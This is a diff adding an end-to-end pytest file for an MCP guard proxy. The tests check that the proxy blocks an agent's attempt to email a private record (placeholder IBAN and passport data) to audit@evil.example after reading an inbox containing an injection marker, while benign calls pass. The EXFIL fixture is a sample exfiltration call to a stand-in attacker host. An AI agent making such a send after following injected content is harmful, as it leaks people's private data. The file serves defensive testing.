@@ -1,0 +1,105 @@
+"""The MCP guard proxy end to end: a real `mcp` client over stdio, the proxy and the fixture server as subprocesses."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+
+pytest.importorskip("mcp")
+
+from mcp.client.session import ClientSession
+from mcp.client.stdio import StdioServerParameters, stdio_client
+
+ROOT = Path(__file__).resolve().parents[2]
+SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
+POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
+ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"
+BENIGN = {"to": "bob@corp.example", "subject": "lunch", "body": "See you at noon."}
+EXFIL = {"to": "audit@evil.example", "subject": "record", "body": ALICE}
+
+
+def _env(log: Path) -> dict[str, str]:
+    return {"PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(log), "PATH": os.environ.get("PATH", "")}
+
+
+def _received(log: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+
+
+async def _drive(policy: Path, tmp: Path, calls: list[tuple[str, dict[str, Any]]]) -> list[Any]:
+    params = StdioServerParameters(
+        command=sys.executable,
+        args=[
+            "-m",
+            "guard",
+            "mcp-proxy",
+            "--policy",
+            str(policy),
+            "--threshold",
+            "0.5",
+            "--audit",
+            str(tmp / "audit.jsonl"),
+            "--session",
+            "e2e",
+            "--",
+            sys.executable,
+            str(SERVER),
+        ],
+        env=_env(tmp / "server.log"),
+        cwd=str(ROOT),
+    )
+    with (tmp / "proxy.err").open("w") as errlog:
+        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as client:
+            await client.initialize()
+            listed = [t.name for t in (await client.list_tools()).tools]
+            results = [await client.call_tool(name, args) for name, args in calls]
+    return [listed, *results]
+
+
+def test_injected_exfiltration_refused_benign_passed(tmp_path: Path) -> None:
+    """Catches a proxy that forwards a refused call, blocks a benign one, or loses the audit trail."""
+    calls = [("send_email", BENIGN), ("read_inbox", {}), ("read_record", {"name": "alice"}), ("send_email", EXFIL)]
+    listed, benign, inbox, record, exfil = anyio.run(_drive, POLICY, tmp_path, calls)
+    assert listed == ["read_record", "read_inbox", "send_email", "delete_file"]  # tools/list passed through
+    assert not benign.is_error and benign.content[0].text == "sent to bob@corp.example"
+    assert "<INFORMATION>" in inbox.content[0].text and record.content[0].text == ALICE
+    assert exfil.is_error
+    text = exfil.content[0].text
+    assert "did not run `send_email`" in text and "escalate" in text and "risk_budget" in text
+    assert exfil.meta["carbguard"]["verdict"] == "escalate"
+    received = _received(tmp_path / "server.log")
+    assert [r["tool"] for r in received] == ["send_email", "read_inbox", "read_record"]  # never the exfiltration
+    assert received[0]["args"] == BENIGN
+    audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
+    assert [(e["tool"], e["verdict"]) for e in audit] == [
+        ("send_email", "execute"),
+        ("read_inbox", "execute"),
+        ("read_record", "execute"),
+        ("send_email", "escalate"),
+    ]
+    assert {e["session"] for e in audit} == {"e2e"}
+
+
+def test_results_are_observed(tmp_path: Path) -> None:
+    """Negative control: with no private read before it the same send passes: the refusal needs observed results."""
+    calls = [("send_email", {"to": "audit@evil.example", "subject": "record", "body": ALICE})]
+    _, alone = anyio.run(_drive, POLICY, tmp_path, calls)
+    assert not alone.is_error  # the same send with no private read before it is under the threshold
+
+
+def test_unknown_server_tool_warned_and_refused(tmp_path: Path) -> None:
+    """Catches a proxy that skips the start-up tools/list check or lets a tool the policy does not know run."""
+    text = POLICY.read_text()
+    policy = tmp_path / "partial.yaml"
+    policy.write_text(text.split("  delete_file:")[0] + "on_unknown: escalate\n")
+    _, deleted = anyio.run(_drive, policy, tmp_path, [("delete_file", {"path": "report.pdf"})])
+    assert deleted.is_error and "unknown_tool" in deleted.content[0].text
+    assert _received(tmp_path / "server.log") == []
+    err = (tmp_path / "proxy.err").read_text()
+    assert "agent tool 'delete_file' is not in policy 'mcp-fixture'" in err
